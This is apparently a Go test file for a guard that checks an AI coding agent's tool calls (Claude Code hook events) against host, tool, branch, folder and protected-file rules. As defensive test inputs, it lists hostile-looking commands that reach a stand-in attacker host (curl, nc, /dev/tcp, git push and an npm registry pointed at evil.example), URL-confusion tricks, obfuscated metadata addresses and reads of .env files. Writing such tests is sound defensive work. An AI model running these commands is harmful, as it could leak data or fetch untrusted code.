package guard_test

import (
	"encoding/json"
	"testing"

	"rules2guards.local/guard"
	"rules2guards.local/guard/call"
	"rules2guards.local/guard/wire"
)

func TestHosts(t *testing.T) {
	runCases(t, nowhere(), []verdictCase{
		{
			"not on the list", rule("host", "hosts = [\"*\"]\nexcept = [\"github.com\", \"packages.example.org\", \"localhost\"]"),
			[]string{"curl https://github.com@evil.example/x", "curl https://github.com.evil.example", "git clone https://evil.example/a", "ssh u@evil.example", "wget -qO- http://1.2.3.4:80/x", "scp a evil.example:x", "curl evil.example", "npm i --registry https://evil.example", "git push https://evil.example/x", "nc evil.example 80", "rsync a u@evil.example:", "bash -c 'curl evil.example'", "curl HTTPS://EVIL.example", "curl https://evil.example?x=1", "curl evil.example?x", "cat < /dev/tcp/evil.example/80", "git remote add x git@evil.example:a/b"},
			[]string{"git clone https://github.com/a/b", "curl https://api.github.com/x", "curl localhost:8080", "curl http://packages.example.org./x", "ssh git@github.com", "echo https://evil.example", "git commit -m https://evil.example"},
		},
		{"a domain covers what is below it", rule("host", `hosts = ["evil.example", "*.bad.example"]`), []string{"curl https://a.b.evil.example", "curl evil.example", "curl x.bad.example"}, []string{"curl notevil.example", "curl evil.example.org", "curl bad.example"}},
		{"addresses in plain form", rule("host", `hosts = ["127.0.0.1", "169.254.169.254"]`), []string{"curl http://2130706433/", "curl http://0x7f.1", "curl http://[::ffff:127.0.0.1]/", "curl 169.254.169.254/latest"}, []string{"curl 10.0.0.1"}},
	})
	p := compiled(t, rule("host", "hosts = [\"*\"]\nexcept = [\"github.com\"]"))
	for address, want := range map[string]bool{"https://evil.example/x": true, "https://github.com@evil.example": true, "https://api.github.com": false, "not an address": false} {
		ev, _ := wire.For(call.ClaudeCode).Event(map[string]any{"hook_event_name": "PreToolUse", "cwd": "/p", "tool_name": "WebFetch", "tool_input": map[string]any{"url": address, "prompt": "x"}})
		if got := fired(nowhere().judge(p, ev.Call)); got != want {
			t.Errorf("fetch %s: fires %v, want %v", address, got, want)
		}
		ev, _ = wire.For(call.ClaudeCode).Event(map[string]any{"hook_event_name": "PreToolUse", "cwd": "/p", "tool_name": "mcp__web__open", "tool_input": map[string]any{"where": address}})
		if got := fired(nowhere().judge(p, ev.Call)); got != want {
			t.Errorf("MCP tool opens %s: fires %v, want %v", address, got, want)
		}
	}
}

// event decodes one event of Claude Code with a tool and its arguments as JSON.
func event(t *testing.T, tool, input string) *call.Call {
	t.Helper()
	_, ev, err := wire.Decode([]byte(`{"hook_event_name":"PreToolUse","cwd":"/nowhere/u/project","tool_name":`+quoteJSON(tool)+`,"tool_input":`+input+`}`), call.ClaudeCode)
	if err != nil || ev.Call == nil {
		t.Fatalf("%s %s: %v", tool, input, err)
	}
	return ev.Call
}

func quoteJSON(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestTools(t *testing.T) {
	for _, tt := range []struct {
		name, rules, tool, input string
		want                     bool
	}{
		{"by name", rule("tool", `tools = ["WebSearch"]`), "WebSearch", `{"query":"x"}`, true},
		{"case is ignored", rule("tool", `tools = ["websearch"]`), "WebSearch", `{"query":"x"}`, true},
		{"glob", rule("tool", `tools = ["mcp__github__*"]`), "mcp__github__delete_repo", `{}`, true},
		{"other server", rule("tool", `tools = ["mcp__github__*"]`), "mcp__git__x", `{}`, false},
		{"a tool that nobody knows yet", rule("tool", `tools = ["Agent*"]`), "AgentOfNextYear", `{"x":1}`, true},
		{"except", rule("tool", "tools = [\"mcp__*\"]\nexcept = [\"mcp__ok__*\"]"), "mcp__ok__x", `{}`, false},
		{"condition met", rule("tool", "tools = [\"WebSearch\"]\nunless = { input = { query = '\\b20\\d\\d\\b' } }"), "WebSearch", `{"query":"go 2026"}`, false},
		{"condition not met", rule("tool", "tools = [\"WebSearch\"]\nunless = { input = { query = '\\b20\\d\\d\\b' } }"), "WebSearch", `{"query":"go"}`, true},
		{"the same key in another case does not excuse", rule("tool", "tools = [\"WebSearch\"]\nunless = { input = { query = '2026' } }"), "WebSearch", `{"query":"go","Query":"2026"}`, true},
		{"the same key in another case fires", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { q = 'bad' } }"), "mcp__x__y", `{"Q":"bad","q":"ok"}`, true},
		{"canonical name", rule("tool", "tools = [\"Bash\"]\nwhen = { input = { background = 'true' } }"), "Bash", `{"command":"x","run_in_background":true}`, true},
		{"its own name", rule("tool", "tools = [\"Bash\"]\nwhen = { input = { run_in_background = 'true' } }"), "Bash", `{"command":"x","run_in_background":true}`, true},
		{"nested field", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { \"a.b\" = '^v$' } }"), "mcp__x__y", `{"a":{"b":"v"}}`, true},
		{"any element of a list", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { \"a.b\" = '^v$' } }"), "mcp__x__y", `{"a":[{"b":"u"},{"b":["w","v"]}]}`, true},
		{"a number is its text", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { n = '^1[0-9]{3}$' } }"), "mcp__x__y", `{"n":1500}`, true},
		{"an object is its text", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { o = '\"k\":1' } }"), "mcp__x__y", `{"o":{"k":1}}`, true},
		{"an absent field matches nothing", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { n = '' } }"), "mcp__x__y", `{}`, false},
		{"all fields", rule("tool", "tools = [\"mcp__x__y\"]\nwhen = { input = { n = '1', m = '2' } }"), "mcp__x__y", `{"n":1,"m":3}`, false},
		{"an MCP tool that is a shell", rule("command", `commands = ["npm"]`), "mcp__x__execute_command", `{"command":"cd a && npm i"}`, true},
		{"an MCP tool with a script", rule("command", `commands = ["npm"]`), "mcp__x__run", `{"script":"npm i"}`, true},
		{"an MCP tool that is a file system", protects(`".env"`), "mcp__fs__read_file", `{"path":"/a/.env"}`, true},
		{"an address of a file", protects(`".env"`), "mcp__fs__open", `{"uri":"file:///a/.env"}`, true},
		{"a second key in another case", rule("command", `commands = ["npm"]`), "Bash", `{"command":"npm i","Command":"ls"}`, true},
		{"a second key in another case, the other way", rule("command", `commands = ["npm"]`), "Bash", `{"Command":"npm i","command":"ls"}`, true},
		{"a file under two keys", protects(`".env"`), "Read", `{"file_path":"/a/b","File_Path":"/a/.env"}`, true},
		{"a tool told of by the guard", rule("command", `commands = ["npm"]`) + "[guard]\ntools = [{ tool = \"mcp__y__go\", command = \"what\" }]", "mcp__y__go", `{"what":"npm i"}`, true},
		{"a condition on a command rule", rule("command", "commands = [\"npm\"]\nwhen = { input = { timeout = '^[0-9]{6,}' } }"), "Bash", `{"command":"npm i","timeout":100}`, false},
		{"a condition on a command rule that holds", rule("command", "commands = [\"npm\"]\nwhen = { input = { timeout = '^[0-9]{6,}' } }"), "Bash", `{"command":"npm i","timeout":600000}`, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, c := compiled(t, tt.rules), event(t, tt.tool, tt.input)
			guard.ApplyHints(p.Settings.Tools, c)
			if got := fired(nowhere().judge(p, c)); got != tt.want {
				t.Errorf("fires %v, want %v", got, tt.want)
			}
		})
	}
}

func onMain(pattern string) string {
	return rule("command", "commands = [\""+pattern+"\"]\nwhen = { branch = [\"main\", \"release/*\"] }")
}

func TestBranches(t *testing.T) {
	m := repository(t)
	m.git(t, ".", "init", "-q", "-b", "feature", "../other")
	m.git(t, ".", "init", "-q", "-b", "main", "sub")
	m.git(t, ".", "clone", "-q", ".", "../detached")
	m.git(t, "../detached", "checkout", "-q", "--detach")
	runCases(t, m, []verdictCase{
		{
			"where the command works", onMain("git commit"),
			[]string{"git commit -m x", "cd sub && git commit", "git -C sub commit", "cd ../other; cd -; git commit", "(cd ../other); git commit", "cd ../other && git -C ../project commit", "cd src/deep; git commit", "pushd ../other; popd; git commit"},
			[]string{"cd ../other && git commit", "git -C ../other commit", "(cd ../other; git commit)", "cd ../detached && git commit", "cd / && git commit", "pushd ../other && git commit"},
		},
		{
			"a literal switch in the text counts", onMain("git commit"),
			[]string{"cd ../other; git switch main && git commit", "cd ../other; git checkout main; git commit", "git switch -c release/1; git commit", "git checkout -b x && git switch main && git commit", "git -C ../other switch main && git -C ../other commit"},
			[]string{"git switch -c feat && git commit", "git checkout -b feat; git commit -m x", "git switch feat; git commit", "git checkout -q feat && git commit", "git -C . switch feat && git -C . commit"},
		},
		{
			"destinations of a push", onMain("git push"),
			[]string{
				"git push", "git push origin", "git push -u origin HEAD", "git push origin HEAD:main", "git push -f origin x:main", "git push origin +x:refs/heads/main", "git switch -c tmp && git push -f origin tmp:main", "cd ../other && git push origin HEAD:main", "git push origin x main",
				"git push origin :main", "git push --delete origin main", "git push origin release/2", "git push --all", "git push --mirror", `git push origin "$B"`, "git push origin 'refs/heads/*:refs/heads/*'", "git push origin :", "git push origin x:heads/main", "git push origin @:main", "cd ../other; git push origin +:",
			},
			[]string{"git push origin feature", "git push origin main:feature", "git switch -c x; git push", "cd ../other && git push", "git push origin HEAD:feature", "git push origin v1.0", "git switch feat && git push origin HEAD", "cd ../detached && git push origin HEAD"},
		},
		{"unless", rule("command", "commands = [\"git push\"]\nunless = { branch = [\"feat/*\"] }"), []string{"git push", "cd ../detached; git push", `cd "$X"; git push`, "git push origin feat/a main"}, []string{"git switch -c feat/a; git push", "git push origin feat/x"}},
		{"an unknown folder is taken so that a block fires", onMain("git commit"), []string{`cd "$X" && git commit`}, nil},
		{"a warning is silent then", onMain("git commit") + "action = \"warn\"\n", []string{"git commit"}, []string{`cd "$X" && git commit`}},
		{"a file's folder", rule("path", "paths = [\"*.c\"]\naccess = [\"write\"]\nwhen = { branch = [\"main\"] }"), []string{"echo > a.c", "echo > sub/a.c", "cd ../other; echo > ../project/a.c"}, []string{"echo > ../other/a.c", "cd ../other; echo > a.c", "git switch -c x; echo > a.c", "echo > ../detached/a.c"}},
		{"a message's folder", rule("content", "targets = [\"commit-message\"]\npattern = 'wip'\nwhen = { branch = [\"main\"] }"), []string{"git commit -m wip", "git -C sub commit -m wip"}, []string{"cd ../other; git commit -m wip", "git -C ../other commit -m wip", "git switch -c x; git commit -m wip"}},
	})
}

func TestOtherConditions(t *testing.T) {
	m := repository(t)
	m.put(t, "pnpm-lock.yaml", "")
	m.put(t, "web/package.json", "")
	m.put(t, "web/deep/x", "")
	m.put(t, "api/Cargo.toml", "")
	m.git(t, ".", "worktree", "add", "-q", "-b", "wt", "../wt")
	m.put(t, "../wt/only-here", "")
	m.put(t, "../wt/deep/x", "")
	runCases(t, m, []verdictCase{
		{"in", rule("command", "commands = [\"make\"]\nwhen = { in = [\"web\", \"~/w/*\"] }"), []string{"cd web && make", "cd web/deep; make", "cd ~/w/a && make", "make -C web", `cd "$X"; make`}, []string{"make", "cd webx; make", "cd api && make"}},
		{"unless in", rule("command", "commands = [\"make\"]\nunless = { in = [\"web\"] }"), []string{"make", `cd "$X"; make`}, []string{"cd web && make", "make -C web"}},
		{"exists from the place up to the root", rule("command", "commands = [\"npm\"]\nwhen = { exists = [\"pnpm-lock.yaml\"] }"), []string{"npm i", "cd web/deep; npm i", "npm --prefix web i"}, []string{"cd .. && npm i", "cd /tmp; npm i"}},
		{"up to the root of a linked worktree", rule("command", "commands = [\"npm\"]\nwhen = { exists = [\"only-here\"] }"), []string{"cd ../wt/deep; npm i", "cd ../wt; npm i"}, []string{"npm i", "cd web; npm i"}},
		{"only below", rule("command", "commands = [\"npm\"]\nwhen = { exists = [\"package.json\"] }"), []string{"cd web; npm i", "cd web/deep && npm i"}, []string{"npm i", "cd api; npm i"}},
		{"all keys of when", rule("command", "commands = [\"make\"]\nwhen = { in = [\"web\"], branch = [\"main\"] }"), []string{"cd web; make"}, []string{"make", "git switch x; cd web; make"}},
		{"unless asks for all of its keys too", rule("command", "commands = [\"make\"]\nunless = { in = [\"web\"], branch = [\"main\"] }"), []string{"make", "git switch x; cd web; make"}, []string{"cd web; make"}},
		{"a file's folder, in", rule("path", "paths = [\"*.c\"]\naccess = [\"write\"]\nwhen = { in = [\"web\"] }"), []string{"echo > web/a.c", "cd web; echo > a.c"}, []string{"echo > a.c", "cd web; echo > ../a.c"}},
	})
}
